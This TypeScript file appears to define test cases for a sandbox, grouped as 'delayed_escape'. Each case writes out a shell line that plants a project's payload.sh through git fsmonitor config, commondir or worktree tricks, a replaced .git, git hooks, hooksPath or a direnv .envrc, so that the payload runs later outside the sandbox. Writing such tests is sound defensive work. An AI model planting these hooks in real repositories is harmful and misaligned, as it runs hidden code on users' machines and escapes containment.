import type { Attack } from '../attack.ts';

const group = 'delayed_escape';
/** What `payload.sh` of the project does, wherever it is run. */
const ran = { kind: 'changes', path: '{outside}/ran' } as const;
const payload = '{project}/payload.sh';

const plants: readonly (readonly [id: string, line: string, afterwards: string, before?: string])[] = [
  ['fsmonitor', `printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> .git/config`, 'git status'],
  ['git_config_command', `git config core.fsmonitor ${payload}`, 'git status'],
  [
    'common_folder',
    `mkdir fake; cp -r .git/objects .git/refs fake; printf '[core]\\n\\tfsmonitor = ${payload}\\n' > fake/config; echo ../fake > .git/commondir`,
    'git status',
  ],
  [
    'worktree_config',
    `printf '[core]\\n\\tfsmonitor = ${payload}\\n' > .git/config.worktree; printf '[extensions]\\n\\tworktreeConfig = true\\n' >> .git/config`,
    'git status',
  ],
  ['hook', 'mkdir -p .git/hooks; cp payload.sh .git/hooks/pre-commit', 'git commit -q --allow-empty -m x'],
  [
    'hook_on_status',
    'mkdir -p .git/hooks; cp payload.sh .git/hooks/post-index-change',
    'git add README.md; git status',
  ],
  [
    'hooks_folder',
    'cp payload.sh hooks_of_team/pre-commit',
    'git commit -q --allow-empty -m x',
    'mkdir hooks_of_team; git config core.hooksPath hooks_of_team',
  ],
  [
    'git_replaced',
    `mv .git real; cp -r real .git; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> .git/config`,
    'git status',
  ],
  [
    'git_as_file',
    `mv .git real; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> real/config; echo "gitdir: real" > .git`,
    'git status',
  ],
  [
    'nested_repository',
    `git init -q nested && git -C nested -c user.name=x -c user.email=x commit -q --allow-empty -m x && git add nested; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> nested/.git/config`,
    'git status',
  ],
  [
    'bare_repository',
    `git init -q --bare inner && printf '[core]\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = ${payload}\\n' > inner/config`,
    'cd inner && git status',
  ],
  ['direnv', `echo '. ${payload}' > .envrc`, 'test -f .envrc && . ./.envrc'],
];

export const delayedEscape: readonly Attack[] = plants.map(([id, line, afterwards, before]) => ({
  id,
  group,
  line,
  effect: ran,
  before,
  afterwards,
}));
